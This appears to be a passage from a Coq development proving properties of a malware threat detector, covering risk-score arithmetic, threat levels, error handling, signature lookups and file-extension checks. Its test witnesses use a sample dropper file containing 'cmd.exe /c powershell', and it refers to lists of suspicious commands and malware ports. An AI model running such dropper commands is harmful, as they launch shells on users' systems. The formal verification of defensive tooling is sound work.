Qed.

Lemma all_ports_ok : BehaviorSpec.all_below 16 0 BehaviorSpec.port_text_ok = true.
Proof. vm_compute. reflexivity. Qed.

Lemma port_text port :
  (0 <= port <= 65535)%Z ->
  split_on ":" (str_Z port) = [str_Z port] /\ parse_int (str_Z port) = Some port.
Proof.
  intros Hp.
  assert (H : BehaviorSpec.port_text_ok port = true).
  { apply (all_below_spec _ 16 0 port all_ports_ok).
    change (2 ^ Z.of_nat 16)%Z with 65536%Z. lia. }
  unfold BehaviorSpec.port_text_ok in H.
  destruct (split_on ":" (str_Z port)) as [|s [|? ?]]; try discriminate.
  apply andb_true_iff in H. destruct H as [Hs Hz].
  apply String.eqb_eq in Hs. subst s. split; [reflexivity|].
  destruct (parse_int (str_Z port)) as [z|]; [|discriminate].
  apply Z.eqb_eq in Hz. now subst.
Qed.

Lemma prefix_colon c s : String.prefix ":" (String c s) = Ascii.eqb c ":".
Proof.
  cbn [String.prefix]. destruct (ascii_dec ":" c) as [<-|Hne].
  - destruct s; reflexivity.
  - symmetry. apply Ascii.eqb_neq. congruence.
Qed.

Lemma contains_colon_String c s :
  contains ":" (String c s) = if Ascii.eqb c ":" then true else contains ":" s.
Proof.
  cbn [contains]. rewrite prefix_colon. reflexivity.
Qed.

Lemma split_on_host host rest :
  contains ":" host = false ->
  split_on ":" (host ++ String ":" rest) = host :: split_on ":" rest.
Proof.
  induction host as [|c host IH]; intros H.
  - reflexivity.
  - rewrite contains_colon_String in H.
    destruct (Ascii.eqb c ":") eqn:Hc; [discriminate|].
    cbn [append split_on]. rewrite Hc, (IH H). reflexivity.
Qed.

Lemma contains_colon_app host rest :
  contains ":" (host ++ String ":" rest) = true.
Proof.
  induction host as [|c host IH]; cbn [append].
  - rewrite contains_colon_String. reflexivity.
  - rewrite contains_colon_String, IH. destruct (Ascii.eqb c ":"); reflexivity.
Qed.

Lemma app_colon_nonempty host rest :
  String.eqb (host ++ String ":" rest) "" = false.
Proof. destruct host; reflexivity. Qed.

Arguments BehavioralAnalyzer.process_step : simpl never.
Arguments BehavioralAnalyzer.cmdline_step : simpl never.
Arguments BehavioralAnalyzer.command_step : simpl never.
Arguments BehavioralAnalyzer.connection_step : simpl never.

Lemma process_step_entry p found risk :
  BehaviorSpec.readable p = true ->
  BehavioralAnalyzer.process_step (found, risk) (BehavioralAnalyzer.process_entry p)
  = Ok (if BehaviorSpec.suspicious_name p
        then ((found ++ [BehavioralAnalyzer.process_entry p])%list, Num.add risk 0.2)
        else (found, risk)).
Proof.
  unfold BehaviorSpec.readable, BehaviorSpec.suspicious_name.
  destruct (pi_name p) as [name|] eqn:En; [|discriminate]. intros _.
  unfold BehavioralAnalyzer.process_step.
  replace (py_item (BehavioralAnalyzer.process_entry p) "name") with (Ok (VStr name))
    by (unfold BehavioralAnalyzer.process_entry; cbn; now rewrite En).
  cbn [bind py_lower fst snd].
  destruct (existsb _ _); reflexivity.
Qed.

Lemma count_cons {A} (f : A -> bool) x l :
  BehaviorSpec.count f (x :: l)
  = ((if f x then 1 else 0) + BehaviorSpec.count f l)%nat.
Proof. unfold BehaviorSpec.count. simpl. destruct (f x); reflexivity. Qed.

Lemma process_loop procs found risk :
  forallb BehaviorSpec.readable procs = true ->
  exists found' risk',
    foldM BehavioralAnalyzer.process_step
          (map BehavioralAnalyzer.process_entry procs) (found, risk)
    = Ok (found', risk')
    /\ risk' == risk
                + 0.2 * Num.of_nat (BehaviorSpec.count BehaviorSpec.suspicious_name procs).
Proof.
  revert found risk. induction procs as [|p procs IH]; intros found risk Hr.
  - exists found, risk. split; [reflexivity|].
    change (BehaviorSpec.count BehaviorSpec.suspicious_name []) with 0%nat.
    rewrite of_nat_0. ring.
  - simpl in Hr. apply andb_true_iff in Hr. destruct Hr as [Hp Hr].
    cbn [map foldM]. rewrite (process_step_entry p found risk Hp). cbn [bind].
    rewrite count_cons.
    destruct (BehaviorSpec.suspicious_name p).
    + destruct (IH (found ++ [BehavioralAnalyzer.process_entry p])%list
                   (Num.add risk 0.2) Hr) as (f' & r' & Hf & Er).
      exists f', r'. split; [exact Hf|].
      rewrite of_nat_add, Er, add_eq. change (Num.of_nat 1) with 1. ring.
    + destruct (IH found risk Hr) as (f' & r' & Hf & Er).
      exists f', r'. split; [exact Hf|].
      rewrite of_nat_add, Er, of_nat_0. ring.
Qed.

Lemma command_loop proc name cmdline cmds found risk :
  py_item proc "name" = Ok name ->
  exists found' risk',
    foldM (BehavioralAnalyzer.command_step proc cmdline) cmds (found, risk)
    = Ok (found', risk')
    /\ risk' == risk
                + 0.3 * Num.of_nat
                          (List.length
                             (filter (fun cmd => contains (lower cmd) (lower cmdline))
                                     cmds)).
Proof.
  intros Hn. revert found risk.
  induction cmds as [|cmd cmds IH]; intros found risk.
  - exists found, risk. split; [reflexivity|]. cbn [filter List.length].
    rewrite of_nat_0. ring.
  - cbn [foldM filter]. unfold BehavioralAnalyzer.command_step at 1.
    destruct (contains (lower cmd) (lower cmdline)).
    + rewrite Hn. cbn [bind fst snd]. cbn [List.length].
      edestruct IH as (f' & r' & Hf & Er).
      exists f', r'. split; [exact Hf|]. rewrite of_nat_S, Er, add_eq. ring.
    + cbn [bind]. apply IH.
Qed.

Lemma cmdline_loop procs found risk :
  forallb BehaviorSpec.readable procs = true ->
  exists found' risk',
    foldM BehavioralAnalyzer.cmdline_step
          (map BehavioralAnalyzer.process_entry procs) (found, risk)
    = Ok (found', risk')
    /\ risk' == risk + 0.3 * Num.of_nat (BehaviorSpec.pairs procs).
Proof.
  revert found risk. induction procs as [|p procs IH]; intros found risk Hr.
  - exists found, risk. split; [reflexivity|]. cbn [BehaviorSpec.pairs].
    rewrite of_nat_0. ring.
  - simpl in Hr. apply andb_true_iff in Hr. destruct Hr as [Hp Hr].
    unfold BehaviorSpec.readable in Hp.
    destruct (pi_name p) as [name|] eqn:En; [|discriminate].
    destruct (pi_cmdline p) as [args|] eqn:Ec; [|discriminate].
    cbn [map foldM]. unfold BehavioralAnalyzer.cmdline_step at 1.
    replace (py_get (BehavioralAnalyzer.process_entry p) "cmdline" (VList []))
      with (Ok (VList (map VStr args)))
      by (unfold BehavioralAnalyzer.process_entry; cbn; now rewrite Ec).
    cbn [bind]. unfold py_join. cbn [py_iter bind]. rewrite mapM_as_str. cbn [bind].
    assert (Hn : py_item (BehavioralAnalyzer.process_entry p) "name" = Ok (VStr name))
      by (unfold BehavioralAnalyzer.process_entry; cbn; now rewrite En).
    destruct (command_loop _ _ (join " " args) BehavioralAnalyzer.suspicious_commands
                found risk Hn) as (f1 & r1 & Hf1 & Er1).
    rewrite Hf1.
    destruct (IH f1 r1 Hr) as (f' & r' & Hf & Er).
    exists f', r'. split; [exact Hf|].
    cbn [BehaviorSpec.pairs]. unfold BehaviorSpec.command_hits. rewrite Ec.
    rewrite of_nat_add, Er, Er1. ring.
Qed.

Lemma connection_step_entry c found risk :
  BehaviorSpec.ipv4 c = true ->
  BehavioralAnalyzer.connection_step (found, risk)
                                     (BehavioralAnalyzer.connection_entry c)
  = Ok (if BehaviorSpec.malware_port c
        then ((found ++ [BehavioralAnalyzer.connection_entry c])%list,
              Num.add risk 0.1)
        else (found, risk)).
Proof.
  unfold BehaviorSpec.ipv4, BehaviorSpec.malware_port.
  unfold BehavioralAnalyzer.connection_step.
  replace (py_get (BehavioralAnalyzer.connection_entry c) "remote_address" VNone)
    with (Ok (BehavioralAnalyzer.format_addr (sc_raddr c))) by reflexivity.
  replace (py_item (BehavioralAnalyzer.connection_entry c) "remote_address")
    with (Ok (BehavioralAnalyzer.format_addr (sc_raddr c))) by reflexivity.
  destruct (sc_raddr c) as [[host port]|]; [|reflexivity].
  intros H. apply andb_true_iff in H. destruct H as [H Hhi].
  apply andb_true_iff in H. destruct H as [Hhost Hlo].
  apply negb_true_iff in Hhost. apply Z.leb_le in Hlo, Hhi.
  destruct (port_text port (conj Hlo Hhi)) as [Hsplit Hparse].
  cbn [BehavioralAnalyzer.format_addr bind truthy].
  change (host ++ ":" ++ str_Z port)%string with (host ++ String ":" (str_Z port))%string.
  rewrite app_colon_nonempty. cbn [negb py_in bind].
  rewrite contains_colon_app. cbn [py_split bind].
  rewrite (split_on_host _ _ Hhost), Hsplit. cbn [list_item nth_error bind].
  unfold py_int. rewrite Hparse. cbn [bind fst snd].
  destruct (existsb _ _); reflexivity.
Qed.

Lemma connection_loop conns found risk :
  forallb BehaviorSpec.ipv4 conns = true ->
  exists found' risk',
    foldM BehavioralAnalyzer.connection_step
          (map BehavioralAnalyzer.connection_entry conns) (found, risk)
    = Ok (found', risk')
    /\ risk' == risk
                + 0.1 * Num.of_nat (BehaviorSpec.count BehaviorSpec.malware_port conns).
Proof.
  revert found risk. induction conns as [|c conns IH]; intros found risk Hr.
  - exists found, risk. split; [reflexivity|].
    change (BehaviorSpec.count BehaviorSpec.malware_port []) with 0%nat.
    rewrite of_nat_0. ring.
  - simpl in Hr. apply andb_true_iff in Hr. destruct Hr as [Hc Hr].
    cbn [map foldM]. rewrite (connection_step_entry c found risk Hc). cbn [bind].
    rewrite count_cons.
    destruct (BehaviorSpec.malware_port c).
    + destruct (IH (found ++ [BehavioralAnalyzer.connection_entry c])%list
                   (Num.add risk 0.1) Hr) as (f' & r' & Hf & Er).
      exists f', r'. split; [exact Hf|].
      rewrite of_nat_add, Er, add_eq. change (Num.of_nat 1) with 1. ring.
    + destruct (IH found risk Hr) as (f' & r' & Hf & Er).
      exists f', r'. split; [exact Hf|].
      rewrite of_nat_add, Er, of_nat_0. ring.
Qed.

(** On a snapshot of readable processes and IPv4 connections the
    accumulated score is 0.2 per suspicious process name, 0.3 per pair of
    a process and a suspicious command in its command line, and 0.1 per
    connection to a malware port; the risk score is min(10, 10 x score)
    and the threat level follows the thresholds 0.7 and 0.4 of the
    score. *)
Lemma analyze_behavior_score :
  forall (w : World) (data : dict) (procs : list proc_info) (conns : list sconn),
    dict_get data "processes"
    = Some (VList (map BehavioralAnalyzer.process_entry procs)) ->
    dict_get data "network_connections"
    = Some (VList (map BehavioralAnalyzer.connection_entry conns)) ->
    forallb BehaviorSpec.readable procs = true ->
    forallb BehaviorSpec.ipv4 conns = true ->
    let result := BehavioralAnalyzer.analyze_behavior w data in
    let score := BehaviorSpec.fractional_score procs conns in
    num_field result "overall_risk_score" (Qmin 10 (score * 10))
    /\ exists level,
         dict_get result "threat_level" = Some (VStr level)
         /\ (level = "high" <-> 0.7 <= score)
         /\ (level = "medium" <-> 0.4 <= score /\ score < 0.7)
         /\ (level = "low" <-> score < 0.4).
Proof.
  intros w data procs conns Hp Hc Hread Hv4 result score.
  subst result. unfold BehavioralAnalyzer.analyze_behavior.
  unfold dict_get_default. rewrite Hp, Hc. cbn [py_iter bind].
  destruct (process_loop procs [] 0.0 Hread) as (f1 & r1 & -> & E1). cbn [bind].
  destruct (cmdline_loop procs [] r1 Hread) as (f2 & r2 & -> & E2). cbn [bind].
  destruct (connection_loop conns [] r2 Hv4) as (f3 & r3 & -> & E3). cbn [bind].
  cbv [try_except].
  assert (E : r3 == score).
  { rewrite E3, E2, E1. unfold score, BehaviorSpec.fractional_score. ring. }
  split.
  - eexists. split; [reflexivity|].
    apply min_eq_compat; [reflexivity|]. rewrite mul_eq, E. reflexivity.
  - eexists. split; [reflexivity|].
    destruct (Num.geb r3 0.7) eqn:E7; [|destruct (Num.geb r3 0.4) eqn:E4].
    + apply geb_true in E7. rewrite E in E7.
      repeat split; try discriminate; intros; try reflexivity; lra.
    + apply geb_false in E7. apply geb_true in E4. rewrite E in E7, E4.
      repeat split; try discriminate; intros; try reflexivity; lra.
    + apply geb_false in E7. apply geb_false in E4. rewrite E in E7, E4.
      repeat split; try discriminate; intros; try reflexivity; lra.
Qed.

(** ** The theorems at sample inputs *)

Lemma faulting_module_is_isolated_witness :
  let self := Rounded.init faulty_signature in
  let data := [("file_path", VStr "/tmp/sample.bin"); ("system_data", VDict [])] in
  let verdict := Rounded.detect_threats self busy_world data in
  applicable Signature data = true
  /\ RoundedSpec.invoke self busy_world data Signature = Raise (RuntimeError "boom")
  /\ RoundedSpec.module_slot verdict "signature"
     = Some (error_result (RuntimeError "boom"))
  /\ Rounded.get verdict "overall_risk_score"
     = Some (Rounded.Flt (Binary64.of_Q 1.6)).
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  pose proof (faulting_module_is_isolated
                (Rounded.init faulty_signature) busy_world
                [("file_path", VStr "/tmp/sample.bin"); ("system_data", VDict [])]
                Signature (RuntimeError "boom") eq_refl eq_refl) as H.
  split; [exact (proj1 H)|].
  exact (proj1 (proj2 (proj2 (proj2 (proj2 (proj2 (proj2 H))))) _ eq_refl eq_refl)).
Defined.

Lemma ensemble_decision_accumulates_weighted_scores_witness :
  RoundedSpec.non_error_results borderline_slots = true
  /\ RoundedSpec.aggregated
       (Rounded._calculate_ensemble_decision
          (Rounded.init behavioral_only) (results_of quiet_world [] [] borderline_slots))
       (RoundedSpec.totals Rounded.default_weights borderline_slots).
Proof.
  split; [reflexivity|].
  exact (ensemble_decision_accumulates_weighted_scores
           (Rounded.init behavioral_only) quiet_world [] [] borderline_slots eq_refl).
Defined.


Lemma behavioral_result_from_collected_snapshot_witness :
  dict_mem empty_snapshot_bundle "system_data" = true
  /\ module_slot (detect_threats (init behavioral_only) busy_world empty_snapshot_bundle)
                 "behavioral"
     = Some (VDict (BehavioralAnalyzer.analyze_behavior
                      busy_world (BehavioralAnalyzer.collect_behavioral_data busy_world))).
Proof.
  split; [reflexivity|].
  exact (proj1 (behavioral_result_from_collected_snapshot
                  (init behavioral_only) busy_world empty_snapshot_bundle
                  (fun _ => eq_refl) (fun _ _ => eq_refl) eq_refl)).
Defined.


Lemma signature_detector_cases_witness :
  let result :=
    SignatureDetector.detect_threats dropper_digest ascii_text
                                     dropper_world "/tmp/dropper.txt" in
  fs dropper_world "/tmp/dropper.txt" = Some (RegularFile "cmd.exe /c powershell")
  /\ dict_get result "method" = Some (VStr "yara").
Proof.
  split; [reflexivity|].
  exact (proj1 (proj2 (proj2
           (proj1 (proj2
              (proj1 (proj2 (signature_detector_cases
                               dropper_digest ascii_text dropper_world
                               "/tmp/dropper.txt"))
                     "cmd.exe /c powershell" eq_refl))
              eq_refl (le_n 2))))).
Defined.

Lemma file_analyzer_thresholds_witness :
  let result :=
    FileAnalyzer.predict ascii_text ascii_text dropper_world "/tmp/dropper.txt" in
  fs dropper_world "/tmp/dropper.txt" = Some (RegularFile "cmd.exe /c powershell")
  /\ (dict_get result "prediction" = Some (VStr "suspicious")
      <-> 0.1 < inject_Z 2 / 9 /\ inject_Z 2 / 9 <= 0.3).
Proof.
  split; [reflexivity|].
  exact (proj1 (proj2 (proj2
           (file_analyzer_thresholds
              ascii_text ascii_text dropper_world "/tmp/dropper.txt"
              "cmd.exe /c powershell" eq_refl)))).
Defined.

Lemma module_results_timestamps_witness :
  let verdict :=
    detect_threats (init faulty_signature) quiet_world
                   [("file_path", VStr "/tmp/sample.bin")] in
  module_slot verdict (module_name Signature) = Some (VDict [("error", VStr "boom")])
  /\ ((exists r,
          invoke (init faulty_signature) quiet_world
                 [("file_path", VStr "/tmp/sample.bin")] Signature = Ok r
          /\ VDict [("error", VStr "boom")] = VDict r)
      \/ (exists e,
            VDict [("error", VStr "boom")] = VDict [("error", VStr (str_exn e))]
            /\ dict_mem [("error", VStr (str_exn e))] "timestamp" = false)).
Proof.
  split; [reflexivity|].
  exact (proj2 (proj2 (proj2 (proj2 (proj2 module_results_timestamps))))
           (init faulty_signature) quiet_world
           [("file_path", VStr "/tmp/sample.bin")] Signature
           (VDict [("error", VStr "boom")]) eq_refl).
Defined.


(** * Further properties of the coordinator *)

(** ** The shape of a verdict *)

Lemma min_le_l a b : Num.min a b <= a.
Proof.
  unfold Num.min. destruct (Num.gtb a b) eqn:E.
  - apply gtb_true in E. lra.
  - lra.
Qed.

(** X1. [detect_threats] never ends in its outer handler: every verdict
    has the per-module result mapping and the list of threat records, a
    risk score of at most 10, a confidence of at most 1, and one of the
    threat levels low, medium, high, error. *)
Theorem detect_threats_verdict_shape :
  forall (self : EnhancedThreatDetector) (w : World) (data : dict),
    let verdict := detect_threats self w data in
    (exists slots, dict_get verdict "module_results" = Some (VDict slots))
    /\ (exists threats, dict_get verdict "threats_detected" = Some (VList threats))
    /\ (exists risk, dict_get verdict "overall_risk_score" = Some (VNum risk)
                     /\ risk <= 10)
    /\ (exists confidence, dict_get verdict "confidence" = Some (VNum confidence)
                           /\ confidence <= 1)
    /\ (exists level, dict_get verdict "threat_level" = Some (VStr level)
                      /\ In level ["low"; "medium"; "high"; "error"]).
Proof.
  intros self w data verdict. subst verdict.
  destruct (detect_threats_verdict self w data) as (threats & types & ->).
  destruct (ensemble_totals _ _) as [[risk conf]|e]; simpl.
  - split; [eexists; reflexivity|]. split; [eexists; reflexivity|].
    split; [eexists; split; [reflexivity|]|].
    { pose proof (min_le_l 10.0 risk). lra. }
    split; [eexists; split; [reflexivity|]|].
    { pose proof (min_le_l 1.0 conf). lra. }
    eexists; split; [reflexivity|].
    destruct (Num.geb risk 7.0); [|destruct (Num.geb risk 4.0)]; simpl; auto.
  - split; [eexists; reflexivity|]. split; [eexists; reflexivity|].
    split; [eexists; split; [reflexivity|lra]|].
    split; [eexists; split; [reflexivity|lra]|].
    eexists; split; [reflexivity|]. simpl; auto.
Qed.

(** ** Which modules have a result *)

Lemma final_slots_other self w data name :
  (forall m, name <> module_name m) ->
  dict_get (final_slots self w data) name = None.
Proof.
  intros H.
  assert (E1 : String.eqb name "signature" = false)
    by (apply String.eqb_neq; exact (H Signature)).
  assert (E2 : String.eqb name "file_analysis" = false)
    by (apply String.eqb_neq; exact (H FileAnalysis)).
  assert (E3 : String.eqb name "behavioral" = false)
    by (apply String.eqb_neq; exact (H Behavioral)).
  assert (E4 : String.eqb name "encrypted" = false)
    by (apply String.eqb_neq; exact (H Encrypted)).
  assert (E5 : String.eqb name "social_engineering" = false)
    by (apply String.eqb_neq; exact (H SocialEngineering)).
  unfold final_slots, all_modules, store_slot, applicable.
  cbn [fold_left input_key module_name].
  destruct (dict_mem data "file_path"), (dict_mem data "system_data"),
    (dict_mem data "network_data"), (dict_mem data "communication_data");
    cbn [dict_set dict_get String.eqb Ascii.eqb Bool.eqb];
    rewrite ?E1, ?E2, ?E3, ?E4, ?E5; reflexivity.
Qed.

(** X2. The per-module mapping of a verdict has an entry for a module
    exactly when the input bundle has the part that module waits for
    (signature and file_analysis both wait for file_path), and it has no
    entry under any other name. *)
Theorem module_results_follow_input_parts :
  forall (self : EnhancedThreatDetector) (w : World) (data : dict),
    let verdict := detect_threats self w data in
    (forall m, module_slot verdict (module_name m) <> None
               <-> dict_mem data (input_key m) = true)
    /\ (forall name, (forall m, name <> module_name m) ->
                     module_slot verdict name = None).
Proof.
  intros self w data verdict. subst verdict. split.
  - intros m. rewrite module_slot_detect. unfold applicable.
    destruct (dict_mem data (input_key m)); split; congruence.
  - intros name H.
    destruct (detect_threats_verdict self w data) as (threats & types & ->).
    unfold module_slot. rewrite verdict_of_slots. apply final_slots_other, H.
Qed.

(** X3. A verdict without an error key counts its own threat records:
    threat_count is the length of threats_detected. *)
Theorem threat_count_is_number_of_records :
  forall (self : EnhancedThreatDetector) (w : World) (data : dict),
    let verdict := detect_threats self w data in
    dict_mem verdict "error" = false ->
    exists threats,
      dict_get verdict "threats_detected" = Some (VList threats)
      /\ dict_get verdict "threat_count"
         = Some (VNum (Num.of_nat (List.length threats))).
Proof.
  intros self w data verdict. subst verdict.
  destruct (detect_threats_verdict self w data) as (threats & types & ->).
  destruct (ensemble_totals _ _) as [[risk conf]|e]; simpl; intros H.
  - exists threats. split; reflexivity.
  - discriminate.
Qed.

(** ** Weights that do not count *)

Lemma ensemble_step_unknown slots name weight totals :
  dict_get slots name = None ->
  (forall m, name <> module_name m) ->
  ensemble_step [("module_results", VDict slots)] totals (name, weight) = Ok totals.
Proof.
  intros Hs H. unfold ensemble_step. destruct totals as [risk conf].
  change (dict_item [("module_results", VDict slots)] "module_results")
    with (Ok (VDict slots)).
  cbv [bind py_get dict_get_default]. rewrite Hs.
  cbn [py_in dict_mem dict_get negb].
  replace (String.eqb name "signature") with false
    by (symmetry; apply String.eqb_neq; exact (H Signature)).
  replace (String.eqb name "file_analysis") with false
    by (symmetry; apply String.eqb_neq; exact (H FileAnalysis)).
  cbn [existsb].
  replace (String.eqb name "behavioral") with false
    by (symmetry; apply String.eqb_neq; exact (H Behavioral)).
  replace (String.eqb name "encrypted") with false
    by (symmetry; apply String.eqb_neq; exact (H Encrypted)).
  replace (String.eqb name "social_engineering") with false
    by (symmetry; apply String.eqb_neq; exact (H SocialEngineering)).
  reflexivity.
Qed.

(** Entries of the weight map on which the loop body changes nothing can
    be left out. *)
Lemma ensemble_totals_skip slots name weights :
  (forall weight totals,
      ensemble_step [("module_results", VDict slots)] totals (name, weight)
      = Ok totals) ->
  ensemble_totals
    (filter (fun item => negb (String.eqb (fst item) name)) weights) slots
  = ensemble_totals weights slots.
Proof.
  intros H. unfold ensemble_totals. generalize (0.0, 0.0) as totals.
  induction weights as [|[n wt] weights IH]; intros totals; [reflexivity|].
  cbn [filter fst]. destruct (String.eqb n name) eqn:E; cbn [negb].
  - apply String.eqb_eq in E. subst n. cbn [foldM].
    rewrite H. cbn [bind]. apply IH.
  - cbn [foldM]. destruct (ensemble_step _ totals (n, wt)); cbn [bind]; auto.
Qed.

Lemma detect_threats_skip self w data name :
  (forall weight totals,
      ensemble_step [("module_results", VDict (final_slots self w data))]
                    totals (name, weight) = Ok totals) ->
  detect_threats (without_weight name self) w data = detect_threats self w data.
Proof.
  intros H. unfold detect_threats.
  change (run_modules (without_weight name self) w data)
    with (run_modules self w data).
  destruct (run_modules_results self w data) as (threats & types & ->).
  cbv [try_except]. rewrite !decision_verdict.
  unfold without_weight at 1. cbn [detection_weights].
  rewrite (ensemble_totals_skip _ _ _ H). reflexivity.
Qed.

(** X4. A weight under a name that is not one of the five module names
    has no effect on any verdict. *)
Theorem unknown_weight_names_are_ignored :
  forall (self : EnhancedThreatDetector) (w : World) (data : dict) (name : string),
    (forall m, name <> module_name m) ->
    detect_threats (without_weight name self) w data = detect_threats self w data.
Proof.
  intros self w data name H. apply detect_threats_skip.
  intros weight totals. apply ensemble_step_unknown; [|exact H].
  apply final_slots_other, H.
Qed.

Lemma ensemble_step_error_key slots name r weight totals :
  dict_get slots name = Some (VDict r) ->
  dict_mem r "error" = true ->
  ensemble_step [("module_results", VDict slots)] totals (name, weight) = Ok totals.
Proof.
  intros Hs He. unfold ensemble_step. destruct totals as [risk conf].
  change (dict_item [("module_results", VDict slots)] "module_results")
    with (Ok (VDict slots)).
  cbv [bind py_get dict_get_default]. rewrite Hs.
  cbn [py_in]. rewrite He. reflexivity.
Qed.

(** X5. A module result that has an error key, whether the coordinator
    recorded it or the detector returned it (a missing file, an analysis
    that failed), adds nothing to the weighted totals whatever else it
    holds: the verdict is the one obtained without that module's weight. *)
Theorem error_results_do_not_count :
  forall (self : EnhancedThreatDetector) (w : World) (data : dict)
         (m : module) (r : dict),
    module_slot (detect_threats self w data) (module_name m) = Some (VDict r) ->
    dict_mem r "error" = true ->
    detect_threats (without_weight (module_name m) self) w data
    = detect_threats self w data.
Proof.
  intros self w data m r Hs He. apply detect_threats_skip.
  intros weight totals. apply (ensemble_step_error_key _ _ r); [|exact He].
  destruct (detect_threats_verdict self w data) as (threats & types & E).
  rewrite E in Hs. unfold module_slot in Hs. rewrite verdict_of_slots in Hs.
  exact Hs.
Qed.


(** * Further properties of the detectors *)

(** ** The signature table *)

Lemma eqb_length s s' : String.eqb s s' = true -> String.length s = String.length s'.
Proof. intros H. apply String.eqb_eq in H. now subst. Qed.

(** X9. Two of the three signatures can never match.  The table is
    looked up by the SHA-256 hex digest of the content, which has 64
    characters; the entries labelled "Malware.Sample" and "Virus.Test"
    have 32-character keys, so no file is ever reported with one of these
    labels. *)
Theorem short_signatures_never_match :
  forall (sha256_hexdigest decode_utf8_ignore : string -> string)
         (w : World) (path label : string),
    (forall content, String.length (sha256_hexdigest content) = 64%nat) ->
    dict_get (SignatureDetector.detect_threats
                sha256_hexdigest decode_utf8_ignore w path) "threat_type"
    = Some (VStr label) ->
    label <> "Malware.Sample" /\ label <> "Virus.Test".
Proof.
  intros sha dec w path label Hlen.
  destruct (fs w path) as [[raw|size]|] eqn:Hfs.
  - destruct (SignatureDetector.lookup (sha raw) SignatureDetector.signature_database)
      as [l|] eqn:Hl.
    + rewrite (detect_threats_known _ _ _ _ _ _ Hfs Hl).
      cbn [dict_get String.eqb Ascii.eqb Bool.eqb]. intros [= <-].
      unfold SignatureDetector.signature_database in Hl.
      cbn [SignatureDetector.lookup] in Hl.
      destruct (String.eqb (sha raw) _) eqn:E1 in Hl.
      { injection Hl as <-. split; discriminate. }
      destruct (String.eqb (sha raw) _) eqn:E2 in Hl.
      { apply eqb_length in E2. rewrite Hlen in E2. discriminate. }
      destruct (String.eqb (sha raw) _) eqn:E3 in Hl.
      { apply eqb_length in E3. rewrite Hlen in E3. discriminate. }
      discriminate.
    + rewrite (detect_threats_unknown _ _ _ _ _ Hfs Hl).
      destruct (Nat.leb _ _); cbn [dict_get String.eqb Ascii.eqb Bool.eqb];
        intros [= <-]; split; discriminate.
  - rewrite (detect_threats_unreadable _ _ _ _ _ Hfs).
    cbn [dict_get String.eqb Ascii.eqb Bool.eqb]. intros [= <-]. split; discriminate.
  - rewrite (detect_threats_missing _ _ _ _ Hfs).
    cbn [dict_get String.eqb Ascii.eqb Bool.eqb]. intros [= <-]. split; discriminate.
Qed.

(** ** The file analyzer *)

(** X10. For a file that can be opened, neither the extension of the
    path nor the size of the file has any influence on the prediction and
    its confidence: two readable files whose texts contain equally many
    of the nine patterns get the same prediction, confidence and threat
    type, whatever their paths, extensions and sizes.  The
    suspicious-extension test and the size only matter when the file
    cannot be read. *)
Theorem readable_file_prediction_ignores_extension :
  forall (decode_utf8_ignore splitext_ext splitext_ext' : string -> string)
         (w w' : World) (path path' raw raw' : string),
    fs w path = Some (RegularFile raw) ->
    fs w' path' = Some (RegularFile raw') ->
    List.length (FileAnalyzer.find_patterns FileAnalyzer.malicious_patterns
                                            (lower (decode_utf8_ignore raw')))
    = List.length (FileAnalyzer.find_patterns FileAnalyzer.malicious_patterns
                                              (lower (decode_utf8_ignore raw))) ->
    let result := FileAnalyzer.predict decode_utf8_ignore splitext_ext w path in
    let result' := FileAnalyzer.predict decode_utf8_ignore splitext_ext' w' path' in
    dict_get result' "prediction" = dict_get result "prediction"
    /\ dict_get result' "confidence" = dict_get result "confidence"
    /\ dict_get result' "threat_type" = dict_get result "threat_type".
Proof.
  intros dec ext ext' w w' path path' raw raw' H H' Hcount result result'.
  subst result result'.
  unfold FileAnalyzer.predict, path_exists, getsize, read_bytes.
  rewrite H, H'. cbv [bind try_except negb]. rewrite Hcount.
  destruct (Num.gtb _ 0.3); [|destruct (Num.gtb _ 0.1)]; repeat split.
Qed.

(** X11. For a file that exists and cannot be opened, the analyzer looks at
    the extension and the size only: "suspicious" with confidence 0.6
    when the lowercased extension is one of .exe .bat .cmd .ps1 .vbs .js
    and the size is more than 1024 bytes, "benign" with confidence 0.8
    otherwise; 1024 bytes exactly is benign. *)
Theorem unreadable_file_prediction :
  forall (decode_utf8_ignore splitext_ext : string -> string)
         (w : World) (path : string) (size : Z),
    fs w path = Some (Unreadable size) ->
    let result := FileAnalyzer.predict decode_utf8_ignore splitext_ext w path in
    let flagged :=
      existsb (String.eqb (lower (splitext_ext path)))
              [".exe"; ".bat"; ".cmd"; ".ps1"; ".vbs"; ".js"]
      && Z.ltb 1024 size in
    dict_get result "prediction"
    = Some (VStr (if flagged then "suspicious" else "benign"))
    /\ dict_get result "confidence" = Some (VNum (if flagged then 0.6 else 0.8))
    /\ dict_mem result "error" = false.
Proof.
  intros dec ext w path size H result flagged. subst result flagged.
  unfold FileAnalyzer.predict, path_exists, getsize, read_bytes.
  rewrite H. cbv [bind try_except negb].
  unfold FileAnalyzer.suspicious_extensions.
  destruct (_ && _); repeat split.
Qed.

(** ** The behavioral collector *)

(** X12. [collect_behavioral_data] degrades part by part.  When the
    process table can be read the snapshot has one entry for each process
    and at most 50 connections, none at all when the connection table
    cannot be read; when the process table cannot be read the snapshot is
    empty and carries the error. *)
Theorem collect_behavioral_data_degrades :
  forall (w : World),
    let snapshot := BehavioralAnalyzer.collect_behavioral_data w in
    (forall procs,
        process_iter w = Ok procs ->
        dict_get snapshot "processes"
        = Some (VList (map BehavioralAnalyzer.process_entry procs))
        /\ dict_mem snapshot "error" = false
        /\ exists conns,
             dict_get snapshot "network_connections" = Some (VList conns)
             /\ (List.length conns <= 50)%nat
             /\ (forall all, net_connections w = Ok all ->
                             conns = map BehavioralAnalyzer.connection_entry
                                         (firstn 50 all))
             /\ (forall e, net_connections w = Raise e -> conns = []))
    /\ (forall e,
          process_iter w = Raise e ->
          dict_get snapshot "processes" = Some (VList [])
          /\ dict_get snapshot "network_connections" = Some (VList [])
          /\ dict_get snapshot "error" = Some (VStr (str_exn e))).
Proof.
  intros w snapshot. subst snapshot.
  unfold BehavioralAnalyzer.collect_behavioral_data. split.
  - intros procs ->. cbv [bind try_except].
    split; [reflexivity|]. split; [reflexivity|].
    destruct (net_connections w) as [all|e'].
    + eexists. split; [reflexivity|]. split; [|split].
      * rewrite length_map. apply firstn_le_length.
      * intros all' [= <-]. reflexivity.
      * discriminate.
    + exists []. split; [reflexivity|]. split; [cbn; lia|]. split.
      * discriminate.
      * reflexivity.
  - intros e ->. cbv [bind try_except]. repeat split.
Qed.

(** ** The behavioral analyzer on a collected snapshot *)

